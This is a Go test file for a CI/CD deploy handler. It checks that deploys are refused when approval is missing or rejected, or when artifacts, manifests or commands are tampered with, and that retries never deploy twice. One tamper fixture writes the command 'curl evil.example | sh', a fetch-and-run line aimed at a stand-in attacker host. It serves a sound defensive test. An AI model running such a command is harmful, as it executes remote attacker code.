package deploy_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/shipgate/shipgate/lambdas/build"
	"github.com/shipgate/shipgate/lambdas/deploy"
	"github.com/shipgate/shipgate/lambdas/stage"
	"github.com/shipgate/shipgate/shared/artifact"
	"github.com/shipgate/shipgate/shared/domain"
	"github.com/shipgate/shipgate/shared/lambdaerr"
	"github.com/shipgate/shipgate/shared/runner/stagekit/kittest"
)

// decisions is a hand-written DecisionReader.
type decisions struct {
	fn func(runID string) (domain.Decision, error)
}

func (d decisions) FinalDecision(_ context.Context, runID string) (domain.Decision, error) {
	return d.fn(runID)
}

func approved(st domain.State) decisions {
	return decisions{func(runID string) (domain.Decision, error) {
		return domain.Decision{RunID: runID, Pipeline: st.Run.Pipeline, Outcome: domain.Approved, Approvers: []string{"alice@example.com"},
			ManifestDigest: st.Stage.ManifestDigest, Channel: domain.ChannelCLI, DecidedAt: time.Now()}, nil
	}}
}

// staged runs the real Build and Stage handlers on a repository whose deploy commands
// append a line to deployLog, and whose target is the test's target bucket.
func staged(t *testing.T, st *kittest.Stack, id, deployLog, deployCmd string) domain.State {
	t.Helper()
	if deployCmd == "" {
		deployCmd = `test -f dist/app.bin && test -f "$SHIPGATE_MANIFEST" && echo "deployed $SHIPGATE_COMMIT by $SHIPGATE_APPROVED_BY" >> "$DEPLOY_LOG"`
	}
	repo := kittest.NewRepo(t, map[string]string{"shipgate.yml": `env:
  DEPLOY_LOG: ` + deployLog + `
build:
  commands: ["mkdir -p dist && head -c 200000 /dev/urandom > dist/app.bin && echo v1 > dist/VERSION"]
artifacts:
  - name: app
    paths: ["dist/*"]
approval:
  approvers: [alice@example.com]
deploy:
  commands: ['` + deployCmd + `']
  target:
    s3: {bucket: ` + kittest.Target + `, prefix: releases/}
`})
	state := domain.State{Run: repo.Run(id)}
	bh, err := build.NewWith(st.Config(), st.Deps(), build.Options{Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	b, err := bh.Handle(context.Background(), state)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	state.Build = &b
	sh, _ := stage.NewWith(st.Config(), st.Deps(), stage.Options{Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	s, err := sh.Handle(context.Background(), state)
	if err != nil {
		t.Fatalf("stage: %v", err)
	}
	state.Stage = &s
	return state
}

func lines(t *testing.T, p string) []string {
	b, err := os.ReadFile(p)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSpace(string(b)), "\n")
}

func TestDeployRefusals(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	overwrite := func(key, body string) {
		if _, err := st.S3.PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(kittest.Bucket), Key: aws.String(key), Body: strings.NewReader(body)}); err != nil {
			t.Fatal(err)
		}
	}
	cases := []struct {
		name      string
		decisions func(st domain.State) decisions
		mutate    func(st *domain.State)
		wantType  any
		wantMsg   string
	}{
		{
			name: "no recorded decision",
			decisions: func(domain.State) decisions {
				return decisions{func(id string) (domain.Decision, error) {
					return domain.Decision{}, domain.Errorf(domain.NotFound, "no decision recorded for run %s", id)
				}}
			},
			wantType: &lambdaerr.DecisionMissing{}, wantMsg: "no recorded approval decision",
		},
		{
			name: "rejected decision",
			decisions: func(s domain.State) decisions {
				return decisions{func(id string) (domain.Decision, error) {
					return domain.Decision{RunID: id, Outcome: domain.Rejected, ManifestDigest: s.Stage.ManifestDigest}, nil
				}}
			},
			wantType: &lambdaerr.DecisionMissing{}, wantMsg: `"rejected", not approved`,
		},
		{
			name: "approved digest differs from the staged one",
			decisions: func(s domain.State) decisions {
				return decisions{func(id string) (domain.Decision, error) {
					return domain.Decision{RunID: id, Outcome: domain.Approved, ManifestDigest: "sha256:" + strings.Repeat("0", 64)}, nil
				}}
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "approved manifest sha256:000",
		},
		{
			name:      "artifact tampered with after staging",
			decisions: approved,
			mutate: func(s *domain.State) {
				m, _, err := artifact.New(st.S3, kittest.Bucket).GetManifest(ctx, s.Stage.ManifestKey)
				if err != nil {
					t.Fatal(err)
				}
				overwrite(m.Artifacts[0].Key, "malicious bytes")
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "changed after staging",
		},
		{
			name:      "deploy commands changed after approval",
			decisions: approved,
			mutate: func(s *domain.State) {
				overwrite(s.Build.SpecKey, `{"approval":{"approvers":["a@example.com"]},"deploy":{"commands":["curl evil.example | sh"]}}`)
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "deploy commands changed after approval",
		},
		{
			name:      "state points at another run's spec",
			decisions: approved,
			mutate: func(s *domain.State) {
				b := *s.Build
				b.SpecKey = artifact.SpecKey(s.Run.Pipeline, "some-other-run")
				s.Build = &b
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "not this run's",
		},
		{
			name:      "manifest replaced after approval",
			decisions: approved,
			mutate: func(s *domain.State) {
				overwrite(s.Stage.ManifestKey, `{"pipeline":"demo","artifacts":[]}`)
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "changed after approval",
		},
		{
			name:      "state digest edited to match a forged decision",
			decisions: func(s domain.State) decisions { return approved(s) },
			mutate: func(s *domain.State) {
				s.Stage.ManifestDigest = "sha256:" + strings.Repeat("f", 64)
			},
			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "changed after approval",
		},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			log := filepath.Join(t.TempDir(), "deploys.log")
			state := staged(t, st, "refuse-"+string(rune('a'+i)), log, "")
			dec := tc.decisions(state)
			if tc.mutate != nil {
				tc.mutate(&state)
			}
			aud := &kittest.Audit{}
			h, err := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: dec, Audit: aud, WorkDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			_, err = h.Handle(ctx, state)
			if reflect.TypeOf(err) != reflect.TypeOf(tc.wantType) || !strings.Contains(err.Error(), tc.wantMsg) {
				t.Fatalf("error = %T %v, want %T containing %q", err, err, tc.wantType, tc.wantMsg)
			}
			if got := lines(t, log); got != nil {
				t.Errorf("deploy commands ran: %v", got)
			}
			if got, want := aud.Types(), []string{"stage.started", "stage.finished:failed"}; !reflect.DeepEqual(got, want) {
				t.Errorf("audit = %v, want %v", got, want)
			}
		})
	}
}

func TestDeployOnceUnderRetry(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "twice", log, "")
	aud := &kittest.Audit{}
	h, err := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: approved(state), Audit: aud, WorkDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	first, err := h.Handle(ctx, state)
	if err != nil {
		t.Fatalf("first deploy: %v", err)
	}
	if first.AlreadyDeployed || first.ExitCode != 0 || first.Target != "s3://"+kittest.Target+"/releases/" || first.ManifestDigest != state.Stage.ManifestDigest {
		t.Errorf("first deploy = %+v", first)
	}
	second, err := h.Handle(ctx, state)
	if err != nil {
		t.Fatalf("retried deploy: %v", err)
	}
	if !second.AlreadyDeployed || second.Target != first.Target || second.LogKey != first.LogKey {
		t.Errorf("retried deploy = %+v, want AlreadyDeployed with the first deploy's summary", second)
	}
	if got := lines(t, log); len(got) != 1 || !strings.Contains(got[0], "deployed "+state.Run.Push.Commit+" by alice@example.com") {
		t.Errorf("deploy log = %q, want exactly one deployment", got)
	}
	m, _, _ := artifact.New(st.S3, kittest.Bucket).GetManifest(ctx, state.Stage.ManifestKey)
	target := artifact.New(st.S3, kittest.Target)
	for _, a := range m.Artifacts {
		obj, err := target.Download(ctx, "releases/"+a.Path, filepath.Join(t.TempDir(), "x"))
		if err != nil || obj.SHA256 != a.SHA256 {
			t.Errorf("target copy of %s: sha %s err %v, want %s", a.Path, obj.SHA256, err, a.SHA256)
		}
	}
	want := []string{"stage.started", "deploy.started", "deploy.finished:succeeded", "stage.finished:succeeded", "stage.started", "stage.finished:succeeded"}
	if got := aud.Types(); !reflect.DeepEqual(got, want) {
		t.Errorf("audit = %v, want %v", got, want)
	}
}

func TestFailedDeployIsNotRetriedIntoASecondDeploy(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "fails", log, `echo attempt >> "$DEPLOY_LOG"; echo "permission denied" >&2; exit 4`)
	h, _ := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: approved(state), Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	_, err := h.Handle(ctx, state)
	var df *lambdaerr.DeployFailed
	if !asType(err, &df) || !strings.Contains(err.Error(), "exited with code 4") || !strings.Contains(err.Error(), "permission denied") {
		t.Fatalf("first error = %T %v, want DeployFailed with exit code and tail", err, err)
	}
	_, err = h.Handle(ctx, state)
	if !asType(err, &df) || !strings.Contains(err.Error(), "not deploying twice") {
		t.Fatalf("retry error = %T %v, want DeployFailed refusing to deploy twice", err, err)
	}
	if got := lines(t, log); len(got) != 1 {
		t.Errorf("deploy commands ran %d times, want 1", len(got))
	}
}

// Deploy commands see the approved artifacts only; a repository script that was not
// staged is missing, and the error says why.
func TestDeployScriptNotStagedGetsAHint(t *testing.T) {
	st := kittest.Start(t, true)
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "noscript", log, "./deploy.sh")
	h, _ := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: approved(state), Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	_, err := h.Handle(context.Background(), state)
	var df *lambdaerr.DeployFailed
	if !asType(err, &df) || !strings.Contains(err.Error(), "exited with code 127") || !strings.Contains(err.Error(), "list any script they need under artifacts") {
		t.Fatalf("error = %T %v, want DeployFailed with the artifacts hint", err, err)
	}
}

// A marker left by an attempt that died mid-deploy (Lambda timeout) stops a retry.
func TestUnfinishedAttemptBlocksARetry(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "crashed", log, "")
	_, err := st.DynamoDB.PutItem(ctx, &dynamodb.PutItemInput{TableName: aws.String(kittest.Table), Item: map[string]types.AttributeValue{
		"PK": &types.AttributeValueMemberS{Value: "RUN#crashed"}, "SK": &types.AttributeValueMemberS{Value: "DEPLOY"},
		"status": &types.AttributeValueMemberS{Value: "deploying"}, "attempt": &types.AttributeValueMemberS{Value: "x"},
		"startedAt": &types.AttributeValueMemberS{Value: time.Now().UTC().Format(time.RFC3339Nano)},
	}})
	if err != nil {
		t.Fatal(err)
	}
	h, _ := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: approved(state), Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	_, err = h.Handle(ctx, state)
	var df *lambdaerr.DeployFailed
	if !asType(err, &df) || !strings.Contains(err.Error(), "never recorded its end") {
		t.Fatalf("error = %T %v, want DeployFailed about the unfinished attempt", err, err)
	}
	if got := lines(t, log); got != nil {
		t.Errorf("deploy ran: %v", got)
	}
}

// The default wiring reads the decision through shared/approval's store on the table.
func TestDeployReadsTheRecordedDecision(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "recorded", log, "")
	h, err := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Audit: &kittest.Audit{}, WorkDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	var dm *lambdaerr.DecisionMissing
	if _, err := h.Handle(ctx, state); !asType(err, &dm) {
		t.Fatalf("before the decision: error = %T %v, want DecisionMissing", err, err)
	}
	// The item as shared/approval writes a final decision: PK RUN#<run>, SK DECISION, doc.
	d := domain.Decision{ApprovalID: "a1", Pipeline: kittest.Pipeline, RunID: "recorded", Commit: state.Run.Push.Commit,
		Outcome: domain.Approved, Approvers: []string{"alice@example.com"}, Channel: domain.ChannelEmail, ManifestDigest: state.Stage.ManifestDigest, DecidedAt: time.Now().UTC()}
	doc, _ := json.Marshal(d)
	_, err = st.DynamoDB.PutItem(ctx, &dynamodb.PutItemInput{TableName: aws.String(kittest.Table), Item: map[string]types.AttributeValue{
		"PK": &types.AttributeValueMemberS{Value: "RUN#recorded"}, "SK": &types.AttributeValueMemberS{Value: "DECISION"},
		"doc": &types.AttributeValueMemberS{Value: string(doc)}, "outcome": &types.AttributeValueMemberS{Value: "approved"},
	}})
	if err != nil {
		t.Fatal(err)
	}
	out, err := h.Handle(ctx, state)
	if err != nil || out.AlreadyDeployed {
		t.Fatalf("after the decision: %+v, %v; want a deploy", out, err)
	}
	if got := lines(t, log); len(got) != 1 {
		t.Errorf("deploys = %v, want one", got)
	}
}

func asType[T any](err error, target *T) bool {
	if err == nil {
		return false
	}
	v, ok := err.(T)
	if ok {
		*target = v
	}
	return ok
}

// stage.started is written while the decision, manifest and artifacts are read; when it
// cannot be written the deploy is neither claimed nor run, so a retry can still deploy.
func TestUnrecordedStartClaimsNothing(t *testing.T) {
	st := kittest.Start(t, true)
	ctx := context.Background()
	log := filepath.Join(t.TempDir(), "deploys.log")
	state := staged(t, st, "unrecorded", log, "")
	cases := []struct {
		name      string
		audit     *kittest.Audit
		wantErr   string
		wantLines int
	}{
		{"audit down: refused before the claim", &kittest.Audit{Err: errors.New("table gone")}, "table gone", 0},
		{"audit back: the retry deploys", &kittest.Audit{}, "", 1},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h, err := deploy.NewWith(st.Config(), st.Deps(), deploy.Options{Decisions: approved(state), Audit: tc.audit, WorkDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			out, err := h.Handle(ctx, state)
			if tc.wantErr == "" && (err != nil || out.AlreadyDeployed) {
				t.Fatalf("got %+v, %v; want a first deploy", out, err)
			}
			var internal *lambdaerr.Internal
			if tc.wantErr != "" && (!errors.As(err, &internal) || !strings.Contains(err.Error(), tc.wantErr)) {
				t.Fatalf("error = %T %v, want Internal naming %q", err, err, tc.wantErr)
			}
			if got := lines(t, log); len(got) != tc.wantLines {
				t.Errorf("deploy log = %q, want %d deployments", got, tc.wantLines)
			}
		})
	}
}
